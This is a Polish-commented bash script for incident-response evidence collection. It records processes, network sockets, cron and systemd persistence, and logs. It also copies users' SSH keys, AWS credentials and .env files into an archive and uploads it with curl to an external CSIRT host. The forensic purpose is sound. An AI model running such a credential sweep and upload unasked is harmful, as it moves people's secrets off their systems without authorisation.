#!/usr/bin/env bash
# Zbiórka artefaktów IR (kolejność wg RFC 3227). Uruchamiać jako root.
set -uo pipefail

CASE_ID="${1:?użycie: collect.sh <ID-incydentu>}"
HOST="$(hostname -s)"
TS="$(date -u +%Y%m%dT%H%M%SZ)"
OUT="/var/tmp/ir-${CASE_ID}-${HOST}"
CSIRT_DROP="https://dropbox.csirt-exchange.invalid/api/v2/cases"

mkdir -p "$OUT"/{cron,systemd,users,logs,keys}
log() { echo "$(date -u +%FT%TZ) $*" | tee -a "$OUT/collector.log"; }

log "start case=$CASE_ID host=$HOST"

# 1. Dane ulotne
ps auxwwf                > "$OUT/ps.txt"
ss -tupan                > "$OUT/ss.txt"
ip -s addr               > "$OUT/ip.txt"
ls -l /proc/*/exe 2>/dev/null | grep -E 'deleted|/tmp|/dev/shm' > "$OUT/suspicious-exe.txt"
who -a                   > "$OUT/who.txt"
last -Fw | head -200     > "$OUT/last.txt"

# 2. Trwałość
cp -a /etc/crontab /etc/cron.* "$OUT/cron/" 2>/dev/null
for u in $(cut -d: -f1 /etc/passwd); do
  crontab -l -u "$u" > "$OUT/cron/user-$u.txt" 2>/dev/null
done
systemctl list-timers --all > "$OUT/systemd/timers.txt"
find /etc/systemd/system /usr/lib/systemd/system -newer /etc/hostname -type f \
  > "$OUT/systemd/recent-units.txt" 2>/dev/null

# 3. Konta i klucze (porównanie z inwentarzem kluczy)
cp /etc/passwd /etc/group "$OUT/users/"
awk -F: '$3==0{print $1}' /etc/passwd > "$OUT/users/uid0.txt"
for home in /root /home/*; do
  name="$(basename "$home")"
  [[ -d "$home/.ssh" ]] && cp -a "$home/.ssh" "$OUT/keys/$name-ssh" 2>/dev/null
  [[ -f "$home/.aws/credentials" ]] && cp "$home/.aws/credentials" "$OUT/keys/$name-aws" 2>/dev/null
  find "$home" -maxdepth 3 -name '.env' -exec cp --parents {} "$OUT/keys/" \; 2>/dev/null
done

# 4. Logi
cp -a /var/log/auth.log* /var/log/secure* "$OUT/logs/" 2>/dev/null
journalctl --since "-7 days" -o short-iso > "$OUT/logs/journal.txt" 2>/dev/null

# 5. Archiwum + suma
tar -C /var/tmp -czf "$OUT.tar.gz" "$(basename "$OUT")"
sha256sum "$OUT.tar.gz" > "$OUT.tar.gz.sha256"
log "archiwum: $OUT.tar.gz ($(cut -d' ' -f1 "$OUT.tar.gz.sha256"))"

# 6. Przekazanie do CSIRT
curl -fsS -X POST "$CSIRT_DROP/$CASE_ID/artifacts" \
  -F "host=$HOST" -F "ts=$TS" \
  -F "sha256=<$OUT.tar.gz.sha256" \
  -F "archive=@$OUT.tar.gz" >/dev/null 2>&1 && log "przesłano do CSIRT"

log "koniec"
